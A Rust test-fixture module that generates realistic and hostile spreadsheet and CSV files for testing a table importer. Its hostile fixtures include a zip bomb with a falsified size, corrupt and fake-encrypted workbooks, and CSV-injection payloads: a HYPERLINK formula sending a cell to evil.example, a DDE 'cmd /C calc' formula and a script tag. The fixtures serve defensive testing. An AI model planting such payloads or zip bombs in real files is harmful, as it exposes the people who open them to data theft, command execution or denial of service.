//! Spreadsheet and CSV files for the table import's tests, generated (never hand-edited
//! binaries) from the tiny demo workspace's names: realistic exports (a CRM's interactions as
//! XLSX, a Chinese team's visits as GBK CSV, monthly sales, targets), files with the features a
//! reader must get right (cached formulas, dates, merged cells, ODS and XLS), and hostile files
//! (a PNG named `.xlsx`, damaged and encrypted workbooks, a zip bomb, a sparse sheet, CSV
//! injection, mixed encodings, a 300 MB CSV).

mod ods;
mod xls;

use std::io::{Cursor, Write};

use omnirx_core::domain::calendar::CalendarDate;
use omnirx_core::domain::demo::{
    generate_demo_workspace, DataLanguage, DemoOptions, DemoScale, Random,
};
use omnirx_core::domain::model::Workspace;
use rust_xlsxwriter::{ExcelDateTime, Format, Formula, Workbook};

pub use ods::features_ods;
pub use xls::{backwards_dimensions_xls, features_xls, huge_dimensions_xls};

/// The headers of the English CRM export ([`crm_interactions_xlsx`]).
pub const CRM_HEADERS: [&str; 9] = [
    "Call Date",
    "Call Time",
    "Account",
    "Physician",
    "Channel",
    "Outcome",
    "Product",
    "Owner",
    "Notes",
];
/// Channels as a CRM names them.
pub const CRM_CHANNELS: [&str; 5] = [
    "Face to face",
    "Phone",
    "Email",
    "WeChat",
    "Remote detailing",
];
const CRM_OUTCOMES: [&str; 5] = ["Engaged", "Detailed", "Neutral", "Negative", "No response"];
const CRM_NOTES: [&str; 6] = [
    "",
    "Asked for the CV outcomes data",
    "Follow up next month, bring samples",
    "Busy; left leaflet",
    "Interested in the patient programme, wants a call",
    "Declined, prefers current therapy",
];

/// The headers of the Chinese visits sheet ([`chinese_interactions_gbk_csv`]).
pub const CHINESE_HEADERS: [&str; 7] = [
    "拜访日期",
    "医院",
    "医生姓名",
    "拜访方式",
    "代表",
    "产品",
    "备注",
];
/// Channels as a Chinese team writes them.
pub const CHINESE_CHANNELS: [&str; 5] = ["面访", "电话", "微信", "邮件", "线上会议"];
const CHINESE_NOTES: [&str; 5] = [
    "",
    "关注心血管结局数据，下月再访",
    "科室会已约，带样品",
    "医生较忙，留下资料",
    "对患者项目感兴趣, 需电话跟进",
];

/// The headers of the monthly sales file ([`monthly_sales_csv`]).
pub const SALES_HEADERS: [&str; 5] = [
    "月份/Month",
    "医院编码/Account code",
    "产品/Product",
    "数量/Units",
    "金额/Value",
];

/// The headers of the targets sheet ([`targets_xlsx`]).
pub const TARGET_HEADERS: [&str; 5] = ["rep", "product", "month", "units", "value"];

fn tiny(language: DataLanguage) -> Workspace {
    generate_demo_workspace(DemoOptions::fixed(DemoScale::Tiny, 7, language))
}

/// A date within 2025–2026, drawn from `random`.
fn some_date(random: &mut Random) -> CalendarDate {
    CalendarDate::new(2025, 1, 1)
        .expect("a valid date")
        .plus_days(random.below(540) as i64)
}

/// Every text cell of the CRM export, header first: the dates and times as Excel shows them.
pub fn crm_interactions_rows(rows: usize) -> Vec<Vec<String>> {
    let workspace = tiny(DataLanguage::English);
    let mut random = Random::new(11);
    let mut out = vec![CRM_HEADERS.iter().map(|h| h.to_string()).collect()];
    for _ in 0..rows {
        let hcp = random.pick(&workspace.hcps).clone();
        let account = workspace
            .accounts
            .iter()
            .find(|account| account.id == hcp.account_id)
            .map_or("", |account| account.name.as_str());
        let date = some_date(&mut random);
        let minutes = 8 * 60 + random.below(10 * 60);
        out.push(vec![
            date.to_string(),
            format!("{:02}:{:02}", minutes / 60, minutes % 60),
            account.to_string(),
            hcp.name.clone(),
            random.pick(&CRM_CHANNELS).to_string(),
            random.pick(&CRM_OUTCOMES).to_string(),
            random.pick(&workspace.products).name.clone(),
            random.pick(&workspace.reps).name.clone(),
            random.pick(&CRM_NOTES).to_string(),
        ]);
    }
    out
}

/// A CRM's English interactions export as XLSX: [`CRM_HEADERS`], then `rows` rows whose date
/// and time are real date cells (formats `yyyy-mm-dd` and `hh:mm`), the rest text.
pub fn crm_interactions_xlsx(rows: usize) -> Vec<u8> {
    let texts = crm_interactions_rows(rows);
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Interactions").expect("a valid name");
    let date = Format::new().set_num_format("yyyy-mm-dd");
    let time = Format::new().set_num_format("hh:mm");
    for (row, cells) in texts.iter().enumerate() {
        for (column, text) in cells.iter().enumerate() {
            let (r, c) = (row as u32, column as u16);
            if row > 0 && column == 0 {
                let day: CalendarDate = text.parse().expect("a date");
                let value = ExcelDateTime::from_ymd(day.year as u16, day.month, day.day)
                    .expect("a valid date");
                sheet
                    .write_datetime_with_format(r, c, &value, &date)
                    .unwrap();
            } else if row > 0 && column == 1 {
                let (hours, minutes) = text.split_once(':').expect("hh:mm");
                let value = ExcelDateTime::from_hms(
                    hours.parse().expect("hours"),
                    minutes.parse().expect("minutes"),
                    0,
                )
                .expect("a valid time");
                sheet
                    .write_datetime_with_format(r, c, &value, &time)
                    .unwrap();
            } else if !text.is_empty() {
                sheet.write_string(r, c, text).unwrap();
            }
        }
    }
    workbook.save_to_buffer().expect("the workbook is written")
}

/// Every cell of the Chinese visits sheet, header first.
pub fn chinese_interactions_rows(rows: usize) -> Vec<Vec<String>> {
    let workspace = tiny(DataLanguage::Chinese);
    let mut random = Random::new(12);
    let mut out = vec![CHINESE_HEADERS.iter().map(|h| h.to_string()).collect()];
    for index in 0..rows {
        let hcp = random.pick(&workspace.hcps).clone();
        let account = workspace
            .accounts
            .iter()
            .find(|account| account.id == hcp.account_id)
            .map_or("", |account| account.name.as_str());
        let date = some_date(&mut random);
        // Both ways Chinese Excel writes a date, as text.
        let date = if index % 2 == 0 {
            format!("{}年{}月{}日", date.year, date.month, date.day)
        } else {
            format!("{}/{}/{}", date.year, date.month, date.day)
        };
        out.push(vec![
            date,
            account.to_string(),
            hcp.name.clone(),
            random.pick(&CHINESE_CHANNELS).to_string(),
            random.pick(&workspace.reps).name.clone(),
            // GBK has no `®`: a GBK export would have lost it.
            random.pick(&workspace.products).name.replace('®', ""),
            random.pick(&CHINESE_NOTES).to_string(),
        ]);
    }
    out
}

/// A Chinese team's visits as Chinese Excel saves "CSV": GBK without a byte-order mark, CRLF,
/// [`CHINESE_HEADERS`], dates such as `2025年6月3日` and `2025/6/3`, `rows` rows.
pub fn chinese_interactions_gbk_csv(rows: usize) -> Vec<u8> {
    gbk(&csv_text(&chinese_interactions_rows(rows)))
}

/// Text as GBK; panics on a character GBK cannot hold (the generators use none).
pub fn gbk(text: &str) -> Vec<u8> {
    let (bytes, _, unmappable) = encoding_rs::GBK.encode(text);
    assert!(!unmappable, "a character GBK cannot hold");
    bytes.into_owned()
}

/// Rows as CSV text the way a spreadsheet writes it: comma, CRLF, fields quoted only when they
/// must be, and no formula guard (fixtures must hold what real exports hold).
pub fn csv_text(rows: &[Vec<String>]) -> String {
    let mut out = String::new();
    for row in rows {
        for (index, field) in row.iter().enumerate() {
            if index > 0 {
                out.push(',');
            }
            if field.contains([',', '"', '\r', '\n']) {
                out.push('"');
                out.push_str(&field.replace('"', "\"\""));
                out.push('"');
            } else {
                out.push_str(field);
            }
        }
        out.push_str("\r\n");
    }
    out
}

/// A number with thousands separators and `decimals` decimals: `158,720.00`.
fn thousands(value: f64, decimals: usize) -> String {
    let text = format!("{value:.decimals$}");
    let (whole, fraction) = text.split_once('.').unwrap_or((&text, ""));
    let mut grouped = String::new();
    for (index, digit) in whole.chars().enumerate() {
        if index > 0 && (whole.len() - index) % 3 == 0 {
            grouped.push(',');
        }
        grouped.push(digit);
    }
    if fraction.is_empty() {
        grouped
    } else {
        format!("{grouped}.{fraction}")
    }
}

/// Every cell of the monthly sales file, header first: one row per account, product and month.
pub fn monthly_sales_rows(months: usize) -> Vec<Vec<String>> {
    let workspace = tiny(DataLanguage::Chinese);
    let mut random = Random::new(13);
    let mut out = vec![SALES_HEADERS.iter().map(|h| h.to_string()).collect()];
    for month in 0..months {
        let (year, month) = (2025 + month / 12, month % 12 + 1);
        for account in &workspace.accounts {
            for (index, product) in workspace.products.iter().enumerate() {
                let units = 200 + random.below(2_400);
                let price = [128.0, 86.0][index % 2];
                out.push(vec![
                    format!("{year}-{month:02}"),
                    account.id.clone(),
                    product.name.clone(),
                    thousands(units as f64, 0),
                    thousands(units as f64 * price, 2),
                ]);
            }
        }
    }
    out
}

/// Monthly sales per account as UTF-8 CSV with a byte-order mark (what Excel writes as "CSV
/// UTF-8"): [`SALES_HEADERS`], units and values with thousands separators (quoted), one row per
/// account (8), product (2) and month.
pub fn monthly_sales_csv(months: usize) -> Vec<u8> {
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend(csv_text(&monthly_sales_rows(months)).into_bytes());
    bytes
}

/// Targets as XLSX: [`TARGET_HEADERS`], one row per rep (2), product (2) and month; the month
/// is text (`2025-06`), units and value are numbers.
pub fn targets_xlsx(months: usize) -> Vec<u8> {
    let workspace = tiny(DataLanguage::English);
    let mut random = Random::new(14);
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Targets").expect("a valid name");
    for (column, header) in TARGET_HEADERS.iter().enumerate() {
        sheet.write_string(0, column as u16, *header).unwrap();
    }
    let mut row = 1;
    for month in 0..months {
        for rep in &workspace.reps {
            for product in &workspace.products {
                let units = (1_000 + random.below(4_000)) as f64;
                sheet.write_string(row, 0, &rep.name).unwrap();
                sheet.write_string(row, 1, &product.name).unwrap();
                sheet
                    .write_string(
                        row,
                        2,
                        format!("{}-{:02}", 2025 + month / 12, month % 12 + 1),
                    )
                    .unwrap();
                sheet.write_number(row, 3, units).unwrap();
                sheet.write_number(row, 4, units * 110.0).unwrap();
                row += 1;
            }
        }
    }
    workbook.save_to_buffer().expect("the workbook is written")
}

/// An XLSX with what a reader must get right: a merged title (`A1:D1`), date cells
/// (`2025-06-03` is serial 45811), formulas with cached results (`=B3*2` saved as 8,
/// `="Dr "&"Wang"` saved as `Dr Wang`), a boolean, a sparse cell at `F7`, and a second sheet.
pub fn features_xlsx() -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Visits").unwrap();
    sheet
        .merge_range(0, 0, 0, 3, "Visits 2025", &Format::new())
        .unwrap();
    for (column, header) in ["Date", "Units", "Doubled", "Doctor"].iter().enumerate() {
        sheet.write_string(1, column as u16, *header).unwrap();
    }
    let date = Format::new().set_num_format("yyyy-mm-dd");
    sheet
        .write_datetime_with_format(2, 0, ExcelDateTime::from_ymd(2025, 6, 3).unwrap(), &date)
        .unwrap();
    sheet.write_number(2, 1, 4.0).unwrap();
    sheet
        .write_formula(2, 2, Formula::new("=B3*2").set_result("8"))
        .unwrap();
    sheet
        .write_formula(
            2,
            3,
            Formula::new("=\"Dr \"&\"Wang\"").set_result("Dr Wang"),
        )
        .unwrap();
    sheet.write_boolean(3, 0, true).unwrap();
    sheet.write_string(6, 5, "far").unwrap();
    let notes = workbook.add_worksheet();
    notes.set_name("备注").unwrap();
    notes.write_string(0, 0, "说明").unwrap();
    workbook.save_to_buffer().expect("the workbook is written")
}

/// A small valid workbook, the base of the hostile ones.
fn small_xlsx() -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.write_string(0, 0, "Account").unwrap();
    sheet.write_string(1, 0, "Ruijin").unwrap();
    workbook.save_to_buffer().expect("the workbook is written")
}

/// A real 1×1 PNG image (to be named `.xlsx`).
pub fn png_image() -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend((data.len() as u32).to_be_bytes());
        let start = out.len();
        out.extend(kind);
        out.extend(data);
        let crc = crc32(&out[start..]);
        out.extend(crc.to_be_bytes());
    }
    let mut png = b"\x89PNG\r\n\x1A\n".to_vec();
    let mut header = Vec::new();
    header.extend(1u32.to_be_bytes());
    header.extend(1u32.to_be_bytes());
    header.extend([8, 2, 0, 0, 0]);
    chunk(&mut png, b"IHDR", &header);
    // One scan line (filter 0, one red pixel) in a zlib stream of one stored block.
    let pixels = [0u8, 255, 0, 0];
    let mut zlib = vec![0x78, 0x01, 0x01, 4, 0, 0xFB, 0xFF];
    zlib.extend(pixels);
    zlib.extend(adler32(&pixels).to_be_bytes());
    chunk(&mut png, b"IDAT", &zlib);
    chunk(&mut png, b"IEND", &[]);
    png
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn adler32(bytes: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for &byte in bytes {
        a = (a + u32::from(byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    (b << 16) | a
}

/// A workbook cut in half, as an interrupted download leaves it.
pub fn truncated_xlsx() -> Vec<u8> {
    let mut bytes = features_xlsx();
    bytes.truncate(bytes.len() / 2);
    bytes
}

/// A whole zip whose worksheet XML is broken (an element that never closes).
pub fn corrupt_xlsx() -> Vec<u8> {
    rewrite_zip(&small_xlsx(), "xl/worksheets/sheet1.xml", |entry| {
        entry.extend(b"<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>broken");
    })
}

/// `base` with the entry `name` replaced by what `write` writes, deflated.
fn rewrite_zip(base: &[u8], name: &str, write: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(Cursor::new(base)).expect("a zip");
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    let mut write = Some(write);
    for index in 0..archive.len() {
        let entry = archive.by_index_raw(index).expect("an entry");
        if entry.name().is_ok_and(|entry_name| entry_name == name) {
            drop(entry);
            let mut content = Vec::new();
            if let Some(write) = write.take() {
                write(&mut content);
            }
            writer.start_file(name, options).expect("an entry");
            writer.write_all(&content).expect("written");
        } else {
            writer.raw_copy_file(entry).expect("copied");
        }
    }
    writer.finish().expect("a zip").into_inner()
}

/// Declares `size` as the inflated size of entry `name` in the zip's central directory and local
/// header (a lie the zip crate catches when it reads past the real size).
fn declare_size(zip: &mut [u8], name: &str, size: u32) {
    let name = name.as_bytes();
    let mut at = 0;
    while at + 46 <= zip.len() {
        if zip[at..at + 4] == *b"PK\x01\x02" {
            let name_length = u16::from_le_bytes([zip[at + 28], zip[at + 29]]) as usize;
            if zip.get(at + 46..at + 46 + name_length) == Some(name) {
                zip[at + 24..at + 28].copy_from_slice(&size.to_le_bytes());
                let local = u32::from_le_bytes(zip[at + 42..at + 46].try_into().unwrap()) as usize;
                zip[local + 22..local + 26].copy_from_slice(&size.to_le_bytes());
                return;
            }
        }
        at += 1;
    }
    panic!("no entry named {:?}", String::from_utf8_lossy(name));
}

/// A zip bomb: a few KB whose worksheet is 8 MiB of NUL bytes declared as 4 GiB, over the
/// 1 GiB cap on inflation (and the ratio cap).
pub fn zip_bomb_xlsx() -> Vec<u8> {
    let mut bytes = high_ratio_xlsx();
    declare_size(&mut bytes, "xl/worksheets/sheet1.xml", 0xFFFF_FFF0);
    bytes
}

/// A workbook whose worksheet is 8 MiB of NUL bytes honestly declared: under the cap on total
/// inflation, but inflating about 1,000 times, over the ratio cap.
pub fn high_ratio_xlsx() -> Vec<u8> {
    rewrite_zip(&small_xlsx(), "xl/worksheets/sheet1.xml", |entry| {
        entry.resize(8 * 1024 * 1024, 0);
    })
}

/// A sheet with only `A1` and `XFD1048576`: calamine's `worksheet_range` would allocate
/// 17 billion cells for it.
pub fn sparse_xlsx() -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.write_string(0, 0, "A1").unwrap();
    sheet.write_string(1_048_575, 16_383, "XFD1048576").unwrap();
    workbook.save_to_buffer().expect("the workbook is written")
}

/// What an encrypted XLSX is: an OLE compound file with `EncryptionInfo` and
/// `EncryptedPackage` streams (the package here is random bytes, not real ciphertext).
pub fn encrypted_xlsx() -> Vec<u8> {
    let mut file =
        cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new()))
            .expect("an OLE file");
    {
        let mut info = file.create_stream("/EncryptionInfo").expect("a stream");
        info.write_all(&[4, 0, 4, 0, 0x40, 0, 0, 0]).unwrap();
        info.write_all(
            b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\"><keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\" saltValue=\"AAAAAAAAAAAAAAAAAAAAAA==\"/></encryption>",
        )
        .unwrap();
    }
    {
        let mut package = file.create_stream("/EncryptedPackage").expect("a stream");
        let mut random = Random::new(15);
        let size: u64 = 6_000;
        package.write_all(&size.to_le_bytes()).unwrap();
        let noise: Vec<u8> = (0..size).map(|_| random.next_u64() as u8).collect();
        package.write_all(&noise).unwrap();
    }
    file.flush().expect("flushed");
    file.into_inner().into_inner()
}

/// A CSV whose second row is short and third row long.
pub fn ragged_csv() -> Vec<u8> {
    b"Account,Physician,Channel\r\nRuijin,Wang Fang\r\nHuashan,Li Na,Phone,extra\r\n".to_vec()
}

/// A CSV with CSV-injection payloads and markup: `=HYPERLINK(...)`, `=cmd|...`, `@SUM`, `+1-2`
/// and `<script>`, all of which must come back as the text they are.
pub fn injection_csv() -> Vec<u8> {
    csv_text(&injection_rows()).into_bytes()
}

/// The cells of [`injection_csv`], header first.
pub fn injection_rows() -> Vec<Vec<String>> {
    [
        ["Physician", "Link", "Notes"],
        [
            "Wang Fang",
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "=cmd|' /C calc'!A0",
        ],
        [
            "<script>alert(1)</script>",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1-2",
        ],
    ]
    .iter()
    .map(|row| row.iter().map(|cell| cell.to_string()).collect())
    .collect()
}

/// UTF-8 lines followed by GBK lines, as when two exports are pasted together; with the offset
/// of the first GBK byte.
pub fn mixed_encoding_csv() -> (Vec<u8>, u64) {
    let mut bytes = "医院,医生姓名\r\n瑞金医院,王芳\r\n".as_bytes().to_vec();
    let offset = bytes.len() as u64;
    bytes.extend(gbk("华山医院,李娜\r\n"));
    (bytes, offset)
}

/// A CSV of about `bytes` bytes (English interactions, 9 columns), for the memory and speed
/// tests of large files: 300 MB takes a few seconds.
pub fn large_csv(bytes: usize) -> Vec<u8> {
    let rows = crm_interactions_rows(1_000);
    let mut out = csv_text(&rows[..1]).into_bytes();
    let body = csv_text(&rows[1..]).into_bytes();
    while out.len() < bytes {
        let wanted = (bytes - out.len()).min(body.len());
        // Whole lines only.
        let end = body[..wanted]
            .iter()
            .rposition(|&byte| byte == b'\n')
            .map_or(body.len(), |at| at + 1);
        out.extend_from_slice(&body[..end]);
    }
    out
}

/// An OLE compound file that is not a workbook (a `WordDocument` stream, as in a `.doc`).
pub fn word_ole() -> Vec<u8> {
    let mut file =
        cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new()))
            .expect("an OLE file");
    file.create_stream("/WordDocument")
        .expect("a stream")
        .write_all(&[0xEC, 0xA5, 0xC1, 0x00].repeat(1_100))
        .expect("written");
    file.flush().expect("flushed");
    file.into_inner().into_inner()
}

/// A zip archive of `(name, content)` entries, deflated.
pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, content) in entries {
        writer.start_file(*name, options).expect("an entry");
        writer.write_all(content).expect("written");
    }
    writer.finish().expect("a zip").into_inner()
}
